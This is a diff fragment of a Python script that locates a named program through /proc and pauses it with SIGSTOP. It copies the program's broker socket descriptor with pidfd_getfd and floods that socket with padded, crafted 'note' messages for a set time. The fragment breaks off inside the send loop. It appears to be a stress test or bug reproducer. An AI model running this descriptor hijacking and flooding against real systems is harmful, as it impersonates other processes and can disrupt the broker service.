@@ -5,25 +5,36 @@ version, level, program, seconds = int(sys.argv[1], 16), int(sys.argv[2]), sys.a
 NOTE, BROKER, PIDFD_GETFD = 2, 3, 438
 
 
+def processes():
+    """Of that program, stopped as soon as they are seen."""
+    for name in filter(str.isdigit, os.listdir("/proc")):
+        try:
+            with open(f"/proc/{name}/cmdline", "rb") as file:
+                if file.read().startswith(program.encode()):
+                    os.kill(int(name), signal.SIGSTOP)
+                    yield int(name)
+        except OSError:
+            pass
+
+
 def find():
+    """A process, and its line. One that has not got it, or has it no more, goes on."""
     until = time.time() + 60
     while time.time() < until:
-        for name in filter(str.isdigit, os.listdir("/proc")):
+        for pid in processes():
             try:
-                with open(f"/proc/{name}/cmdline", "rb") as file:
-                    if file.read().startswith(program.encode()):
-                        os.kill(int(name), signal.SIGSTOP)
-                        return int(name)
-            except OSError:
+                line = ctypes.CDLL(None, use_errno=True).syscall(PIDFD_GETFD, os.pidfd_open(pid), BROKER, 0)
+                if line >= 0:
+                    return pid, line
+                os.kill(pid, signal.SIGCONT)
+            except ProcessLookupError:
                 pass
-    sys.exit(f"no {program}")
+    sys.exit(f"no {program} with a line to the broker")
 
 
-pid = find()
-line = ctypes.CDLL(None, use_errno=True).syscall(PIDFD_GETFD, os.pidfd_open(pid), BROKER, 0)
-assert line >= 0, os.strerror(ctypes.get_errno())
-text = b"x" * 12000
-note = struct.pack("<IIBI", version, NOTE, level, len(text)) + text
+pid, line = find()
+text = b"x" * 8000
+note = struct.pack("<IBBI", version, NOTE, level, len(text)) + text
 broker, sent, end = socket.socket(fileno=line), 0, time.time() + seconds
 try:
     while time.time() < end:
